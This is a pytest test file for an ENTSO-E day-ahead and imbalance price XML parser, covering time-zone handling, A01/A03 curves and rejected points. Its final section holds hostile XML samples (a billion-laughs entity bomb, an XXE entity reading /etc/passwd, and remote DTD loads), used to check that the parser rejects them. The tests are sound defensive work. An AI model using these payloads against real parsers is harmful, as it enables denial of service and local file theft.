"""The ENTSO-E price document parser on small hand-made documents: day-ahead (A44) and imbalance
(A85) prices, curve types A01 and A03, daylight-saving days, bad points and hostile documents.
Every expected value is written out by hand."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingestion.entsoe_xml import ParseResult, PriceRow, parse_price_document

UTC = timezone.utc
RO = "10YRO-TEL------P"
NS_PUBLICATION = "urn:iec62325.351:tc57wg16:451-3:publicationdocument:7:3"
NS_BALANCING = "urn:iec62325.351:tc57wg16:451-6:balancingdocument:4:4"


def a44(periods: str, curve_type: str | None = "A01", namespace: str = NS_PUBLICATION) -> bytes:
    """A day-ahead price document for Romania with one TimeSeries holding `periods`."""
    curve = f"<curveType>{curve_type}</curveType>" if curve_type else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Publication_MarketDocument xmlns="{namespace}">
  <mRID>doc-1</mRID>
  <revisionNumber>1</revisionNumber>
  <type>A44</type>
  <TimeSeries>
    <mRID>1</mRID>
    <businessType>A62</businessType>
    <in_Domain.mRID codingScheme="A01">{RO}</in_Domain.mRID>
    <out_Domain.mRID codingScheme="A01">{RO}</out_Domain.mRID>
    <currency_Unit.name>EUR</currency_Unit.name>
    <price_Measure_Unit.name>MWH</price_Measure_Unit.name>
    {curve}
    {periods}
  </TimeSeries>
</Publication_MarketDocument>""".encode()


def period(start: str, end: str, resolution: str, prices: dict[int, str]) -> str:
    points = "".join(
        f"<Point><position>{position}</position><price.amount>{price}</price.amount></Point>\n"
        for position, price in prices.items()
    )
    return f"""<Period>
      <timeInterval><start>{start}</start><end>{end}</end></timeInterval>
      <resolution>{resolution}</resolution>
      {points}</Period>"""


def codes(result: ParseResult) -> list[str]:
    return [entry.reason_code for entry in result.rejected]


def by_position(result: ParseResult) -> dict[int, PriceRow]:
    return {row.position: row for row in result.rows}


# --- day-ahead prices (A44) ------------------------------------------------------------------

# 2026-03-10 in Bucharest (EET, UTC+2) is 2026-03-09T22:00Z to 2026-03-10T22:00Z: 24 hours.
HOURLY_PRICES = [
    "95.10", "88.30", "84.00", "81.75", "80.02", "83.40", "97.65", "120.00",
    "131.15", "118.90", "102.33", "90.00", "85.50", "79.99", "78.10", "86.45",
    "99.00", "125.60", "149.80", "160.25", "142.00", "121.10", "108.70", "99.95",
]


def test_day_ahead_hourly_day() -> None:
    prices = dict(enumerate(HOURLY_PRICES, start=1))
    document = a44(period("2026-03-09T22:00Z", "2026-03-10T22:00Z", "PT60M", prices))
    result = parse_price_document(document, "da.xml")
    point_lines = [number for number, text in enumerate(document.decode().splitlines(), start=1) if "<Point>" in text]

    assert result.rejected == []
    assert len(result.rows) == 24
    first, last = result.rows[0], result.rows[-1]
    assert first == PriceRow(
        document_type="A44",
        area_eic=RO,
        period_start_utc=datetime(2026, 3, 9, 22, 0, tzinfo=UTC),
        resolution_minutes=60,
        price=Decimal("95.10"),
        currency="EUR",
        unit="MWH",
        price_category="single",
        curve_type="A01",
        position=1,
        filled_from_position=None,
        time_series_id="1",
        line=point_lines[0],  # each row names the line of its Point, for the rejected-rows trail
    )
    assert [row.line for row in result.rows] == point_lines
    assert last.position == 24
    assert last.period_start_utc == datetime(2026, 3, 10, 21, 0, tzinfo=UTC)  # 23:00 local
    assert last.price == Decimal("99.95")
    assert by_position(result)[8].period_start_utc == datetime(2026, 3, 10, 5, 0, tzinfo=UTC)
    assert by_position(result)[8].price == Decimal("120.00")
    # Exactly as written: the trailing zero stays, and no float ever appears.
    assert str(by_position(result)[2].price) == "88.30"
    assert all(isinstance(row.price, Decimal) for row in result.rows)
    assert all(row.period_start_utc.tzinfo is not None for row in result.rows)


def test_day_ahead_quarter_hours_on_the_25_hour_day() -> None:
    # 2026-10-25 in Bucharest: 00:00 EEST (UTC+3) = 2026-10-24T21:00Z to 24:00 EET (UTC+2) =
    # 2026-10-25T22:00Z, 25 hours = 100 quarter-hours. Clocks go from 04:00 EEST back to 03:00 EET
    # at 01:00Z, so local 03:00-03:45 happens twice: positions 13-16 (+03) and 17-20 (+02).
    prices = {position: f"{position}.25" for position in range(1, 101)}
    result = parse_price_document(a44(period("2026-10-24T21:00Z", "2026-10-25T22:00Z", "PT15M", prices)), "da.xml")

    assert result.rejected == []
    assert len(result.rows) == 100
    rows = by_position(result)
    assert rows[1].period_start_utc == datetime(2026, 10, 24, 21, 0, tzinfo=UTC)
    assert rows[100].period_start_utc == datetime(2026, 10, 25, 21, 45, tzinfo=UTC)
    assert {row.resolution_minutes for row in result.rows} == {15}
    assert rows[13].period_start_utc == datetime(2026, 10, 25, 0, 0, tzinfo=UTC)
    assert rows[17].period_start_utc == datetime(2026, 10, 25, 1, 0, tzinfo=UTC)
    bucharest = ZoneInfo("Europe/Bucharest")
    local_13 = rows[13].period_start_utc.astimezone(bucharest)
    local_17 = rows[17].period_start_utc.astimezone(bucharest)
    assert (local_13.hour, local_13.minute, local_13.utcoffset()) == (3, 0, timedelta(hours=3))
    assert (local_17.hour, local_17.minute, local_17.utcoffset()) == (3, 0, timedelta(hours=2))
    assert rows[100].period_start_utc.astimezone(bucharest).strftime("%Y-%m-%d %H:%M") == "2026-10-25 23:45"
    assert rows[17].price == Decimal("17.25")
    assert sum(1 for row in result.rows if row.period_start_utc.astimezone(bucharest).hour == 3) == 8


def test_a03_curve_fills_left_out_positions_with_the_previous_point() -> None:
    # Two hours in quarter-hours (8 positions); only positions 1, 3 and 6 are written.
    document = a44(
        period("2026-05-01T22:00Z", "2026-05-02T00:00Z", "PT15M", {1: "70.00", 3: "65.40", 6: "-1.05"}),
        curve_type="A03",
    )
    result = parse_price_document(document, "a03.xml")

    assert result.rejected == []
    got = [(row.position, row.period_start_utc, row.price, row.filled_from_position) for row in result.rows]
    assert got == [
        (1, datetime(2026, 5, 1, 22, 0, tzinfo=UTC), Decimal("70.00"), None),
        (2, datetime(2026, 5, 1, 22, 15, tzinfo=UTC), Decimal("70.00"), 1),
        (3, datetime(2026, 5, 1, 22, 30, tzinfo=UTC), Decimal("65.40"), None),
        (4, datetime(2026, 5, 1, 22, 45, tzinfo=UTC), Decimal("65.40"), 3),
        (5, datetime(2026, 5, 1, 23, 0, tzinfo=UTC), Decimal("65.40"), 3),
        (6, datetime(2026, 5, 1, 23, 15, tzinfo=UTC), Decimal("-1.05"), None),
        (7, datetime(2026, 5, 1, 23, 30, tzinfo=UTC), Decimal("-1.05"), 6),
        (8, datetime(2026, 5, 1, 23, 45, tzinfo=UTC), Decimal("-1.05"), 6),
    ]
    assert {row.curve_type for row in result.rows} == {"A03"}


def test_a03_does_not_repeat_a_rejected_point() -> None:
    # Position 3 is not a number: positions 4-5, which would repeat it, cannot be filled either.
    document = a44(
        period("2026-05-01T22:00Z", "2026-05-02T00:00Z", "PT15M", {1: "70.00", 3: "sixty", 6: "50"}),
        curve_type="A03",
    )
    result = parse_price_document(document, "a03.xml")

    assert [row.position for row in result.rows] == [1, 2, 6, 7, 8]
    assert by_position(result)[2].price == Decimal("70.00")
    assert codes(result) == ["invalid_price", "unfillable_position"]
    assert "positions 4-5" in result.rejected[1].reason
    assert "repeat position 3" in result.rejected[1].reason


def test_a03_without_a_first_point_reports_the_leading_gap() -> None:
    document = a44(period("2026-05-01T22:00Z", "2026-05-01T23:00Z", "PT15M", {3: "10"}), curve_type="A03")
    result = parse_price_document(document, "a03.xml")

    assert [(row.position, row.filled_from_position) for row in result.rows] == [(3, None), (4, 3)]
    assert codes(result) == ["missing_position"]
    assert "positions 1-2 of 4" in result.rejected[0].reason


def test_a01_gap_is_rejected_not_filled() -> None:
    # Four hours, position 3 left out: A01 says every position is given, so 3 is a gap.
    document = a44(period("2026-03-09T22:00Z", "2026-03-10T02:00Z", "PT60M", {1: "10", 2: "11", 4: "13"}))
    result = parse_price_document(document, "gap.xml")

    assert [row.position for row in result.rows] == [1, 2, 4]
    assert all(row.filled_from_position is None for row in result.rows)
    assert codes(result) == ["missing_position"]
    assert "position 3 of 4" in result.rejected[0].reason
    assert result.rejected[0].line is not None


def test_absent_curve_type_is_read_as_a01() -> None:
    document = a44(period("2026-03-09T22:00Z", "2026-03-10T00:00Z", "PT60M", {1: "10"}), curve_type=None)
    result = parse_price_document(document, "gap.xml")

    assert [row.position for row in result.rows] == [1]
    assert codes(result) == ["missing_position"]


BAD_PRICE = b"""<?xml version="1.0" encoding="UTF-8"?>
<Publication_MarketDocument xmlns="urn:iec62325.351:tc57wg16:451-3:publicationdocument:7:3">
  <type>A44</type>
  <TimeSeries>
    <mRID>1</mRID>
    <in_Domain.mRID codingScheme="A01">10YRO-TEL------P</in_Domain.mRID>
    <out_Domain.mRID codingScheme="A01">10YRO-TEL------P</out_Domain.mRID>
    <currency_Unit.name>EUR</currency_Unit.name>
    <price_Measure_Unit.name>MWH</price_Measure_Unit.name>
    <curveType>A01</curveType>
    <Period>
      <timeInterval><start>2026-03-09T22:00Z</start><end>2026-03-10T01:00Z</end></timeInterval>
      <resolution>PT60M</resolution>
      <Point><position>1</position><price.amount>101.25</price.amount></Point>
      <Point><position>2</position><price.amount>n/a</price.amount></Point>
      <Point><position>3</position><price.amount>-4.70</price.amount></Point>
    </Period>
  </TimeSeries>
</Publication_MarketDocument>
"""


def test_non_numeric_price_rejects_that_point_only_with_its_line() -> None:
    result = parse_price_document(BAD_PRICE, "bad_price.xml")

    assert [(row.position, row.price) for row in result.rows] == [(1, Decimal("101.25")), (3, Decimal("-4.70"))]
    assert len(result.rejected) == 1
    entry = result.rejected[0]
    assert (entry.source_file, entry.line, entry.reason_code) == ("bad_price.xml", 15, "invalid_price")
    assert "'n/a'" in entry.reason and "position 2" in entry.reason
    assert entry.message.startswith("bad_price.xml line 15: ")


@pytest.mark.parametrize("price", ["NaN", "Infinity", "1e3", "1,5", "12.5 EUR", ""])
def test_prices_that_are_not_plain_decimals_are_rejected(price: str) -> None:
    document = a44(period("2026-03-09T22:00Z", "2026-03-09T23:00Z", "PT60M", {1: price}))
    result = parse_price_document(document, "x.xml")

    assert result.rows == []
    assert codes(result) == (["missing_element"] if price == "" else ["invalid_price"])


@pytest.mark.parametrize("position", ["0", "5", "two", "-1"])
def test_position_outside_the_period_rejects_that_point_only(position: str) -> None:
    # Four hours: positions 1-4 exist. Points 1-4 are all given; the extra one is bad.
    prices = {1: "1", 2: "2", 3: "3", 4: "4"}
    extra = f"<Point><position>{position}</position><price.amount>9</price.amount></Point>"
    document = a44(period("2026-03-09T22:00Z", "2026-03-10T02:00Z", "PT60M", prices).replace("</Period>", f"{extra}</Period>"))
    result = parse_price_document(document, "x.xml")

    assert [row.price for row in result.rows] == [Decimal("1"), Decimal("2"), Decimal("3"), Decimal("4")]
    assert codes(result) == ["position_out_of_range"]


def test_duplicate_position_keeps_the_first_and_rejects_the_second() -> None:
    document = a44(period("2026-03-09T22:00Z", "2026-03-09T23:00Z", "PT60M", {1: "10.00"}).replace(
        "</Period>", "<Point><position>1</position><price.amount>99.00</price.amount></Point></Period>"
    ))
    result = parse_price_document(document, "dup.xml")

    assert [row.price for row in result.rows] == [Decimal("10.00")]
    assert codes(result) == ["duplicate_position"]


@pytest.mark.parametrize(
    "namespace_open, namespace_close",
    [
        (f'<Publication_MarketDocument xmlns="{NS_PUBLICATION}">', "</Publication_MarketDocument>"),
        (f'<Publication_MarketDocument xmlns="{NS_PUBLICATION[:-1]}0">', "</Publication_MarketDocument>"),
        ("<Publication_MarketDocument>", "</Publication_MarketDocument>"),
        (f'<pub:Publication_MarketDocument xmlns:pub="{NS_PUBLICATION}">', "</pub:Publication_MarketDocument>"),
    ],
)
def test_namespaces_do_not_matter(namespace_open: str, namespace_close: str) -> None:
    body = (
        "<type>A44</type><TimeSeries><mRID>7</mRID>"
        f"<in_Domain.mRID>{RO}</in_Domain.mRID><out_Domain.mRID>{RO}</out_Domain.mRID>"
        "<currency_Unit.name>EUR</currency_Unit.name><price_Measure_Unit.name>MWH</price_Measure_Unit.name>"
        "<Period><timeInterval><start>2026-03-09T22:00Z</start><end>2026-03-09T23:00Z</end></timeInterval>"
        "<resolution>PT60M</resolution><Point><position>1</position><price.amount>42.42</price.amount></Point>"
        "</Period></TimeSeries>"
    )
    if namespace_open.startswith("<pub:"):
        body = body.replace("<", "<pub:").replace("<pub:/", "</pub:")
    result = parse_price_document(f"{namespace_open}{body}{namespace_close}".encode(), "ns.xml")

    assert result.rejected == []
    assert [(row.area_eic, row.price, row.time_series_id) for row in result.rows] == [(RO, Decimal("42.42"), "7")]


def test_series_without_currency_is_rejected_and_other_series_load() -> None:
    no_currency = f"""<TimeSeries>
    <mRID>0</mRID>
    <in_Domain.mRID>{RO}</in_Domain.mRID>
    <price_Measure_Unit.name>MWH</price_Measure_Unit.name>
    <Period/>
  </TimeSeries>
  <TimeSeries>"""
    document = a44(period("2026-03-09T22:00Z", "2026-03-09T23:00Z", "PT60M", {1: "5"}))
    result = parse_price_document(document.replace(b"<TimeSeries>", no_currency.encode(), 1), "x.xml")

    assert [row.price for row in result.rows] == [Decimal("5")]
    assert codes(result) == ["missing_element"]
    assert "TimeSeries 0" in result.rejected[0].reason and "currency_Unit.name" in result.rejected[0].reason


def test_period_that_is_not_a_whole_number_of_intervals_is_rejected() -> None:
    document = a44(period("2026-03-09T22:00Z", "2026-03-09T22:50Z", "PT15M", {1: "5"}))
    result = parse_price_document(document, "x.xml")

    assert result.rows == []
    assert codes(result) == ["invalid_period"]


def test_local_time_without_offset_is_rejected() -> None:
    document = a44(period("2026-03-09T22:00", "2026-03-09T23:00", "PT60M", {1: "5"}))
    result = parse_price_document(document, "x.xml")

    assert result.rows == []
    assert codes(result) == ["invalid_period"]


def test_in_and_out_domain_must_agree() -> None:
    document = a44(period("2026-03-09T22:00Z", "2026-03-09T23:00Z", "PT60M", {1: "5"}))
    document = document.replace(f">{RO}</out_Domain.mRID>".encode(), b">10YCA-BULGARIA-R</out_Domain.mRID>")
    result = parse_price_document(document, "x.xml")

    assert result.rows == []
    assert codes(result) == ["inconsistent_domain"]


# --- imbalance prices (A85) ------------------------------------------------------------------


def a85(points: str, curve_type: str = "A01") -> bytes:
    """An imbalance price document for Romania: one TimeSeries, half an hour in quarter-hours."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Balancing_MarketDocument xmlns="{NS_BALANCING}">
  <mRID>imb-1</mRID>
  <revisionNumber>1</revisionNumber>
  <type>A85</type>
  <process.processType>A16</process.processType>
  <TimeSeries>
    <mRID>1</mRID>
    <businessType>A19</businessType>
    <area_Domain.mRID codingScheme="A01">{RO}</area_Domain.mRID>
    <currency_Unit.name>RON</currency_Unit.name>
    <price_Measure_Unit.name>MWH</price_Measure_Unit.name>
    <curveType>{curve_type}</curveType>
    <Period>
      <timeInterval><start>2026-06-30T21:00Z</start><end>2026-06-30T21:30Z</end></timeInterval>
      <resolution>PT15M</resolution>
      {points}
    </Period>
  </TimeSeries>
</Balancing_MarketDocument>""".encode()


def imbalance_point(position: int, price: str, category: str | None) -> str:
    category_xml = f"<imbalance_Price.category>{category}</imbalance_Price.category>" if category else ""
    amount = f"<imbalance_Price.amount>{price}</imbalance_Price.amount>"
    return f"<Point><position>{position}</position>{amount}{category_xml}</Point>"


def test_imbalance_long_and_short_prices() -> None:
    points = "".join([
        imbalance_point(1, "412.50", "A04"),
        imbalance_point(1, "655.00", "A05"),
        imbalance_point(2, "-12.30", "A04"),
        imbalance_point(2, "890.1", "A05"),
    ])
    result = parse_price_document(a85(points), "imb.xml")

    assert result.rejected == []
    got = sorted((row.price_category, row.period_start_utc, row.price) for row in result.rows)
    assert got == [
        ("long", datetime(2026, 6, 30, 21, 0, tzinfo=UTC), Decimal("412.50")),
        ("long", datetime(2026, 6, 30, 21, 15, tzinfo=UTC), Decimal("-12.30")),
        ("short", datetime(2026, 6, 30, 21, 0, tzinfo=UTC), Decimal("655.00")),
        ("short", datetime(2026, 6, 30, 21, 15, tzinfo=UTC), Decimal("890.1")),
    ]
    row = result.rows[0]
    assert (row.document_type, row.area_eic, row.currency, row.unit, row.resolution_minutes) == ("A85", RO, "RON", "MWH", 15)


def test_imbalance_single_price_without_category() -> None:
    points = imbalance_point(1, "300.00", None) + imbalance_point(2, "310.25", None)
    result = parse_price_document(a85(points), "imb.xml")

    assert result.rejected == []
    assert [(row.price_category, row.position, row.price) for row in result.rows] == [
        ("single", 1, Decimal("300.00")),
        ("single", 2, Decimal("310.25")),
    ]


def test_imbalance_single_price_with_one_category_per_point() -> None:
    points = imbalance_point(1, "300.00", "A04") + imbalance_point(2, "310.25", "A04")
    result = parse_price_document(a85(points), "imb.xml")

    assert result.rejected == []
    assert [(row.price_category, row.price) for row in result.rows] == [
        ("single", Decimal("300.00")),
        ("single", Decimal("310.25")),
    ]


def test_imbalance_dual_price_with_a_missing_short_point_is_a_gap() -> None:
    points = imbalance_point(1, "412.50", "A04") + imbalance_point(1, "655.00", "A05") + imbalance_point(2, "-12.30", "A04")
    result = parse_price_document(a85(points), "imb.xml")

    assert sorted((row.price_category, row.position) for row in result.rows) == [("long", 1), ("long", 2), ("short", 1)]
    assert codes(result) == ["missing_position"]
    assert "short price" in result.rejected[0].reason and "position 2 of 2" in result.rejected[0].reason


def test_imbalance_unknown_category_rejects_the_point() -> None:
    points = imbalance_point(1, "1", "A04") + imbalance_point(2, "2", "A04") + imbalance_point(2, "3", "A99")
    result = parse_price_document(a85(points), "imb.xml")

    assert [row.price for row in result.rows] == [Decimal("1"), Decimal("2")]
    assert codes(result) == ["unknown_price_category"]


def test_imbalance_hourly_a03() -> None:
    # Two hours at PT60M, only position 1 written.
    document = a85(imbalance_point(1, "250", None), curve_type="A03")
    document = document.replace(b"2026-06-30T21:30Z", b"2026-06-30T23:00Z").replace(b"PT15M", b"PT60M")
    result = parse_price_document(document, "imb.xml")

    assert result.rejected == []
    assert [(row.period_start_utc, row.price, row.filled_from_position, row.resolution_minutes) for row in result.rows] == [
        (datetime(2026, 6, 30, 21, 0, tzinfo=UTC), Decimal("250"), None, 60),
        (datetime(2026, 6, 30, 22, 0, tzinfo=UTC), Decimal("250"), 1, 60),
    ]


# --- whole documents rejected ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Publication_MarketDocument><type>A44</type><mRID>&lol9;</mRID></Publication_MarketDocument>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Publication_MarketDocument [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<Publication_MarketDocument><type>A44</type><TimeSeries><mRID>&xxe;</mRID></TimeSeries></Publication_MarketDocument>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<r/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Publication_MarketDocument SYSTEM "http://example.invalid/evil.dtd">
<Publication_MarketDocument><type>A44</type></Publication_MarketDocument>
"""


@pytest.mark.parametrize(
    "document, code, line",
    [
        (BILLION_LAUGHS, "xml_entity_declaration", 3),
        (EXTERNAL_ENTITY, "xml_entity_declaration", 3),
        (PARAMETER_ENTITY, "xml_entity_declaration", 2),
        (EXTERNAL_DTD, "xml_doctype", 2),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
def test_hostile_documents_are_rejected_unexpanded(document: bytes, code: str, line: int) -> None:
    result = parse_price_document(document, "evil.xml")

    assert result.rows == []
    assert len(result.rejected) == 1
    entry = result.rejected[0]
    assert (entry.source_file, entry.reason_code, entry.line) == ("evil.xml", code, line)
    assert "lollol" not in entry.reason and "root:" not in entry.reason


def test_external_entity_reason_names_the_target() -> None:
    reason = parse_price_document(EXTERNAL_ENTITY, "evil.xml").rejected[0].reason
    assert "entity 'xxe'" in reason and "file:///etc/passwd" in reason


def test_truncated_document_is_malformed() -> None:
    truncated = BAD_PRICE[: BAD_PRICE.index(b"<Point><position>3")]  # cut inside the Period on line 16
    result = parse_price_document(truncated, "cut.xml")

    assert result.rows == []
    assert [(entry.reason_code, entry.line) for entry in result.rejected] == [("malformed_xml", 16)]


@given(cut=st.integers(min_value=0, max_value=len(BAD_PRICE.rstrip()) - 1))
@settings(max_examples=60, deadline=None)
def test_any_truncation_gives_no_rows_and_one_rejection(cut: int) -> None:
    result = parse_price_document(BAD_PRICE[:cut], "cut.xml")

    assert result.rows == []
    assert len(result.rejected) == 1
    assert result.rejected[0].reason_code in {"malformed_xml", "empty_file"}


@given(content=st.binary(max_size=200))
@settings(max_examples=100, deadline=None)
def test_arbitrary_bytes_never_raise_and_never_vanish(content: bytes) -> None:
    result = parse_price_document(content, "noise.bin")

    assert result.rows == []
    assert len(result.rejected) == 1


def test_empty_file() -> None:
    assert codes(parse_price_document(b"", "empty.xml")) == ["empty_file"]


@pytest.mark.parametrize(
    "document, mentions",
    [
        (b'<GL_MarketDocument xmlns="urn:x"><type>A65</type></GL_MarketDocument>', "GL_MarketDocument of type A65"),
        (b"<Publication_MarketDocument><type>A61</type></Publication_MarketDocument>", "MarketDocument of type A61"),
        (b"<Balancing_MarketDocument><type>A44</type></Balancing_MarketDocument>", "Balancing_MarketDocument of type A44"),
    ],
)
def test_unsupported_document_type(document: bytes, mentions: str) -> None:
    result = parse_price_document(document, "other.xml")

    assert result.rows == []
    assert codes(result) == ["unsupported_document_type"]
    assert mentions in result.rejected[0].reason


def test_missing_document_type() -> None:
    result = parse_price_document(b"<Publication_MarketDocument><mRID>1</mRID></Publication_MarketDocument>", "x.xml")
    assert codes(result) == ["missing_element"]


def test_acknowledgement_instead_of_prices() -> None:
    document = b"""<Acknowledgement_MarketDocument xmlns="urn:iec62325.351:tc57wg16:451-1:acknowledgementdocument:7:0">
  <mRID>ack</mRID>
  <Reason><code>999</code><text>No matching data found for Data item Day-ahead Prices</text></Reason>
</Acknowledgement_MarketDocument>"""
    result = parse_price_document(document, "ack.xml")

    assert result.rows == []
    assert codes(result) == ["acknowledgement_document"]
    assert "No matching data found" in result.rejected[0].reason
